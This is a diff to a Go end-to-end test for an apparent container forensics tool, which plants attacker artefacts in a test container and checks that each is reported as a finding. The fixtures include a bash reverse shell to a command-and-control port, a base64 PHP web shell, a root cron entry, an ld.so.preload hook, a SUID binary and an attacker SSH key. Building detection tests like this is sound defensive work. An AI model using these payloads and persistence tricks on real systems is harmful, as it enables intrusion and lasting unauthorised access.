@@ -44,8 +44,18 @@ func TestFindingsE2E(t *testing.T) {
 	const dropped = "/tmp/.x/kworker"
 	const keyLine = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDockcaseTestKeyNotARealKeyAtAll0000000 attacker@evil"
 	plantedName := "dce-planted-" + sc.ID
+	const (
+		webshell = "/var/www/html/up.php"
+		cronFile = "/etc/cron.d/kworker"
+		preload  = "/etc/ld.so.preload"
+		suid     = "/usr/local/bin/sudo-helper"
+	)
 	planted := sc.StartContainer(t, "planted", e2etest.ContainerSpec{Cmd: []string{"/workload", "-name", plantedName,
 		"-drop", dropped, "-write", "/root/.ssh/authorized_keys=" + keyLine,
+		"-write", webshell + "=<?php eval(base64_decode($_POST['c'])); ?>",
+		"-write", cronFile + "=* * * * * root " + dropped,
+		"-write", preload + "=/tmp/.x/libhook.so",
+		"-drop", suid, "-chmod", suid + "=4755",
 		"bash", "-i", ">&", "/dev/tcp/" + c2 + "/4444", "0>&1"}})
 	priv := sc.StartContainer(t, "priv", e2etest.ContainerSpec{Adjust: func(cfg *container.Config, hc *container.HostConfig) {
 		hc.CapAdd = []string{"SYS_ADMIN", "SYS_PTRACE"}
@@ -152,6 +162,13 @@ func TestFindingsE2E(t *testing.T) {
 	find(planted, "authorized-keys-changed", func(f analyze.TriageFinding) bool {
 		return f.File != nil && f.File.Path == "/root/.ssh/authorized_keys" && isImage(f) && strings.Contains(f.Evidence[0].Text, "ssh-ed25519 attacker@evil")
 	})
+	// Persistence and tampering planted in the container's filesystem, read
+	// from the committed image's top layer.
+	for _, want := range []struct{ id, path string }{
+		{"webshell", webshell}, {"cron-persistence", cronFile}, {"ld-so-preload", preload}, {"suid-sgid-added", suid},
+	} {
+		find(planted, want.id, func(f analyze.TriageFinding) bool { return f.File != nil && f.File.Path == want.path && isImage(f) })
+	}
 	// Every added file of the top layer is listed with its facts.
 	var listed bool
 	for _, l := range doc.Files {
